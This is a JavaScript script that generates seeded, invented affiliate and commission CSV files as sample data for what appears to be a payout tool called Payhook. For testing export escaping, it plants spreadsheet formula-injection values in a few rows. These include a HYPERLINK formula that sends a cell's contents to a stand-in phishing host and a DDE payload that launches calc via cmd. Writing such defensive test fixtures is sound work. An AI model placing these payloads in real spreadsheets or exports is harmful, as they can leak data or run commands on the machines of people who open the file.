/**
 * Writes affiliates.csv and commissions.csv next to this file: a made-up affiliate program for trying Payhook.
 *
 *   node examples/generate.mjs            writes both files
 *   node examples/generate.mjs --check    exits 1 when they differ from the output of this script
 *
 * Seeded and without dependencies: every run writes the same bytes. All people, shops and addresses are invented;
 * the domains are those reserved for examples (RFC 2606). A few cells are what a spreadsheet would run as a
 * formula: they must come out of a payout's file with an apostrophe in front.
 */
import { readFileSync, writeFileSync } from 'node:fs';

const AFFILIATES = 120;
const COMMISSIONS = 900;
const FIRST_DAY = Date.UTC(2026, 6, 1);
const LAST_DAY = Date.UTC(2026, 10, 15);

/** Mulberry32: a generator of 32 bits of state, plenty for this. */
function generator(seed) {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 2 ** 32;
  };
}

const random = generator(20_261_115);
const whole = (from, to) => from + Math.floor(random() * (to - from + 1));
const pick = (list) => list[whole(0, list.length - 1)];
const chance = (share) => random() < share;

// Given and family names, as people write them and in ASCII for addresses; `currency` is what they sell in mostly.
const PEOPLE = [
  {
    currency: 'usd',
    given: 'Ava|Noah|Grace|Mason|Harper|Elijah|Ruth|Theo|Nora|Owen|Isla|Caleb',
    family: "Sterling|Whitlock|O'Hara|Ellsworth|Bexley|Thornbury|Marlowe|Ashdown|Pemberton|St. Claire",
  },
  {
    currency: 'eur',
    given:
      'Zoë:zoe|José:jose|Søren:soeren|Łukasz:lukasz|Chloé:chloe|Jürgen:juergen|Anaïs:anais|Björn:bjoern|Inês:ines',
    family:
      'Müller:mueller|Núñez:nunez|Ødegård:oedegaard|Wójcik:wojcik|Lefèvre:lefevre|Groß:gross|Brânză:branza',
  },
  {
    currency: 'eur',
    given: 'Ελένη:eleni|Γιώργος:giorgos|Σοφία:sofia|Νίκος:nikos|Δήμητρα:dimitra|Άννα:anna|Κώστας:kostas',
    family:
      'Παπαδοπούλου:papadopoulou|Οικονόμου:oikonomou|Αλεξίου:alexiou|Μακρής:makris|Ζωγράφου:zografou|Ιωάννου:ioannou',
  },
  {
    currency: 'jpy',
    given: '花子:hanako|健太:kenta|さくら:sakura|蓮:ren|美咲:misaki|ユウト:yuto|陽子:yoko|大輔:daisuke',
    family: '佐藤:sato|鈴木:suzuki|高橋:takahashi|渡辺:watanabe|伊藤:ito|小林:kobayashi',
  },
];

const PRODUCTS = [
  ['starter', 'Starter plan', 1900],
  ['team', 'Team plan, monthly', 4900],
  ['team-year', 'Team plan, yearly', 49_000],
  ['studio', 'Studio “Pro” bundle', 12_900],
  ['course-seo', 'Course: SEO for small shops', 7900],
  ['kit-logo', 'Logo kit – 120 vector files', 2400],
  ['book-ja', '入門ガイド', 3200],
  ['book-el', 'Οδηγός για αρχάριους', 2900],
  ['mug', 'Café mug, 330 ml', 1450],
  ['poster', '18" × 24" poster', 3600],
];
const RATES = [500, 1000, 1500, 2000, 3000];
// One unit of the product's price in each currency's minor units: yen have none.
const PRICE = {
  usd: (cents) => cents,
  eur: (cents) => Math.round(cents * 0.9),
  jpy: (cents) => Math.round(cents * 1.5),
};
const NOTES = [
  'Spring campaign, newsletter',
  'Coupon HELLO10, applied by hand',
  'Said "thanks" twice\nand asked for the Greek edition',
  'Paid by invoice',
  'Bundle with kit-logo, discount split',
];

const names = (list) =>
  list.split('|').map((name) => {
    const [written, ascii] = name.split(':');
    return { written, ascii: (ascii ?? written).toLowerCase().replaceAll(/[^a-z]/g, '') };
  });

function person(index, taken) {
  const group = PEOPLE[index % PEOPLE.length];
  for (;;) {
    const given = pick(names(group.given));
    const family = pick(names(group.family));
    const slug = `${given.ascii}-${family.ascii}`;
    if (taken.has(slug)) continue;
    taken.add(slug);
    return { given: given.written, family: family.written, slug, currency: group.currency };
  }
}

function affiliateAt(index, taken) {
  const { given, family, slug, currency } = person(index, taken);
  const method = pick(['paypal', 'paypal', 'paypal', 'wise', 'wise', 'other', '']);
  const domain = pick(['example.com', 'example.org', 'example.net']);
  return {
    external_id: index % 12 === 11 ? '' : `aff-${String(1001 + index)}`,
    email: `${slug.replace('-', '.')}@${domain}`,
    name_first: given,
    name_last: family,
    slug: chance(0.7) ? slug : '',
    paypal_email: method === 'paypal' || chance(0.1) ? `pay+${slug}@example.${pick(['com', 'org'])}` : '',
    payout_method: method,
    is_ready_for_payout: chance(0.92) ? 'true' : 'false',
    status: index % 40 === 17 ? 'inactive' : 'active',
    currency,
  };
}

function affiliates() {
  const taken = new Set();
  const list = Array.from({ length: AFFILIATES }, (_, index) => affiliateAt(index, taken));
  // What somebody might type into a sign-up form in the hope that an accountant opens it in a spreadsheet.
  Object.assign(list[24], {
    name_first: '=HYPERLINK("http://phish.example.net/?"&A2,"Refund")',
    name_last: 'Sterling',
  });
  Object.assign(list[61], { name_last: '@cmd' });
  Object.assign(list[88], { name_first: 'Robert, "Bob"', name_last: 'Ashdown, Jr.' });
  return list;
}

const decimal = (minor, currency) => (currency === 'jpy' ? String(minor) : (minor / 100).toFixed(2));
const commissionOf = (sale, rate) => Math.floor((sale * rate + 5000) / 10_000);

function commissionAt(index, sellers) {
  const affiliate = pick(sellers);
  const currency = chance(0.9) ? affiliate.currency : pick(['usd', 'eur', 'jpy']);
  const type = pick(['sale', 'sale', 'sale', 'sale', 'recurring', 'recurring', 'bonus']);
  const step = (LAST_DAY - FIRST_DAY) / COMMISSIONS;
  const base = {
    external_id: `ord-${100_001 + index}-1`,
    affiliate_external_id: affiliate.external_id,
    type,
    currency: currency.toUpperCase(),
    occurred_at: new Date(Math.floor(FIRST_DAY + index * step + random() * step)).toISOString(),
  };
  if (type === 'bonus') {
    const amount = currency === 'jpy' ? whole(5, 50) * 100 : whole(10, 100) * 50;
    return {
      ...base,
      external_id: `bonus-${index + 1}`,
      amount: decimal(amount, currency),
      description: pick(['Welcome bonus', 'Top ten of the month', 'Contest: 3rd place']),
    };
  }
  const [productId, productName, price] = pick(PRODUCTS);
  const sale = PRICE[currency](price) * (chance(0.1) ? whole(2, 5) : 1);
  const rate = pick(RATES);
  return {
    ...base,
    // Some shops send the sale and the rate only: the commission is then computed.
    amount: chance(0.06) ? '' : decimal(commissionOf(sale, rate), currency),
    sale_amount: decimal(sale, currency),
    rate_bps: String(rate),
    order_id: `ord-${100_001 + index}`,
    customer_email: `customer${whole(1, 400)}@example.${pick(['com', 'org', 'net'])}`,
    product_id: productId,
    product_name: productName,
    description: chance(0.05) ? pick(NOTES) : '',
  };
}

function commissions(list) {
  const sellers = list.filter((affiliate, index) => affiliate.external_id !== '' && index % 15 !== 7);
  const rows = Array.from({ length: COMMISSIONS }, (_, index) => commissionAt(index, sellers));
  const author = {
    affiliate_external_id: list[24].external_id,
    currency: 'USD',
    amount: '0.01',
  };
  Object.assign(rows[100], author, { product_name: '+SUM(1+1)', description: '@cmd' });
  Object.assign(rows[300], author, { product_name: '=1+1', order_id: '-2+3' });
  Object.assign(rows[500], author, { description: "=cmd|' /C calc'!A0" });
  Object.assign(rows[700], { description: 'First line,\nsecond "line"' });
  for (const row of [rows[100], rows[300], rows[500]]) Object.assign(row, { sale_amount: '', rate_bps: '' });
  return rows;
}

const AFFILIATE_COLUMNS = [
  'external_id',
  'email',
  'name_first',
  'name_last',
  'slug',
  'paypal_email',
  'payout_method',
  'is_ready_for_payout',
  'status',
];
const COMMISSION_COLUMNS = [
  'external_id',
  'affiliate_external_id',
  'type',
  'currency',
  'amount',
  'sale_amount',
  'rate_bps',
  'order_id',
  'customer_email',
  'product_id',
  'product_name',
  'description',
  'occurred_at',
];

const cell = (text = '') => (/[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);
const csv = (columns, rows) =>
  [columns.join(','), ...rows.map((row) => columns.map((column) => cell(row[column])).join(','))].join('\n') +
  '\n';

const people = affiliates();
const files = {
  'affiliates.csv': csv(AFFILIATE_COLUMNS, people),
  'commissions.csv': csv(COMMISSION_COLUMNS, commissions(people)),
};
for (const [name, text] of Object.entries(files)) {
  const path = new URL(name, import.meta.url);
  if (!process.argv.includes('--check')) writeFileSync(path, text);
  else if (readFileSync(path, 'utf8') !== text) {
    process.stderr.write(`examples/${name} is not what examples/generate.mjs writes\n`);
    process.exitCode = 1;
  }
}
